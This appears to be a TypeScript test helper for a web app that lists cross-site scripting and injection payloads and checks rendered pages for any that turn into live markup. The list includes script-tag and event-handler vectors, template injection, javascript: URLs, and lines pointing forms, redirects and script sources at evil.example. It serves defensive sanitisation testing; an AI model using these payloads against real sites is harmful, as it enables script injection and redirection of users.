import { textOf } from "../bench/crowd/html-form.mjs"
import type { Page } from "../support/visitor"

/** The script that every payload tries to run. */
export const SCRIPT = "window.__xss=1"

const TAGS = ["script", "img src=x onerror", "svg onload", "iframe srcdoc", "body onpageshow", "details open ontoggle"]
export const PAYLOADS = [
  ...TAGS.map((tag) => `<${tag}=${SCRIPT}>`),
  ...["textarea", "title", "style", "noscript", "template", "select", "option", "bdi", "td", "a"].map(
    (tag) => `</${tag}><img src=x onerror=${SCRIPT}>`,
  ),
  ...['"', "'", "`", "\\", '\\"', "&quot;", "&#34;"].map((quote) => `${quote} autofocus onfocus=${SCRIPT} x=${quote}`),
  `<frameset onload=${SCRIPT}>`,
  `<script>${SCRIPT}</script>`,
  `<ScRiPt>${SCRIPT}</sCrIpT>`,
  `</script><script>${SCRIPT}</script>`,
  `<!--<script>${SCRIPT}`,
  `--><script>${SCRIPT}</script>`,
  `]]><script>${SCRIPT}</script>`,
  `<script>${SCRIPT}//\u2028\u2029`,
  `javascript:${SCRIPT}`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `\${${SCRIPT}}`,
  "{user} $& $` $' $1 $$ {__proto__} {constructor}",
  "%3Cscript%3E%u003cscript%u003e",
  "\u202e<gnp.exe>\u202c \u2066left\u2069",
  `<a href="javascript:${SCRIPT}">`,
  `<form action="https://evil.example"><input name=intent value=submit>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<link rel=stylesheet href=https://evil.example>`,
  `<math><mi xlink:href="data:x,${SCRIPT}">`,
  `<img src="https://evil.example/x.png">`,
  `<object data=https://evil.example>`,
  `<embed src=https://evil.example>`,
  `<x onclick=${SCRIPT}>`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `+ADw-script+AD4-${SCRIPT}`,
  `\u00a0<b>bold</b>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x>`,
  `<input type=image src=x onerror=${SCRIPT}>`,
  `<video><source onerror=${SCRIPT}>`,
  `<marquee onstart=${SCRIPT}>`,
  `<select><option>x</select><img src=x onerror=${SCRIPT}>`,
  `<div style="background:url(https://evil.example)">`,
  `<script src=https://evil.example/x.js></script>`,
  `<svg/onload=${SCRIPT}>`,
  `<<script>${SCRIPT}//<</script>`,
]

const NOT_OURS = /^(?:iframe|object|embed|base|math|marquee|video|animate|frameset|x|template|noscript)$/i
const ADDRESS = /^(?:href|src|action|formaction|xlink:href|data|poster)$/i
/** URLs that our pages may contain: own paths, fragments, the image host, the old dashboard. */
const OWN_ADDRESS = /^(?:\/(?!\/)|#|\?|http:\/\/127\.0\.0\.1:\d+\/meals\/[^/]+$|https:\/\/v1\.saffron\.example\/?$)/

/** Parts of a payload that became markup: unknown tags and attributes, foreign URLs, scripts. */
export function markupIn({ body }: Page): string[] {
  const markup = body.replace(/(<script\b[^>]*>)[\s\S]*?<\/script>/g, "$1</script>")
  return [...markup.matchAll(/<([a-z][^\s/>]*)([^>]*)>/gi)].flatMap(([tag, name = "", attributes = ""]) => {
    const pairs = [...attributes.matchAll(/([^\s="/]+)(?:="([^"]*)")?/g)]
    const isBad = pairs.some(
      ([, key = "", value = ""]) =>
        /^on|^srcdoc$|^http-equiv$|^style$/i.test(key) || (ADDRESS.test(key) && !OWN_ADDRESS.test(textOf(value))),
    )
    const isUnsigned = /^(?:script|style)$/i.test(name) && !pairs.some(([, key, value]) => key === "nonce" && value)
    return isBad || isUnsigned || NOT_OURS.test(name) ? [tag] : []
  })
}

/** Payloads that the page does not show literally. Direction marks are shown as text, white space may be collapsed. */
export function notShown(page: Page, texts: readonly string[] = PAYLOADS): string[] {
  const fold = (text: string) => text.replace(/\s+/g, " ").trim()
  const shown = fold(textOf(page.body))
  return texts.filter((text) => !shown.includes(fold(text)))
}
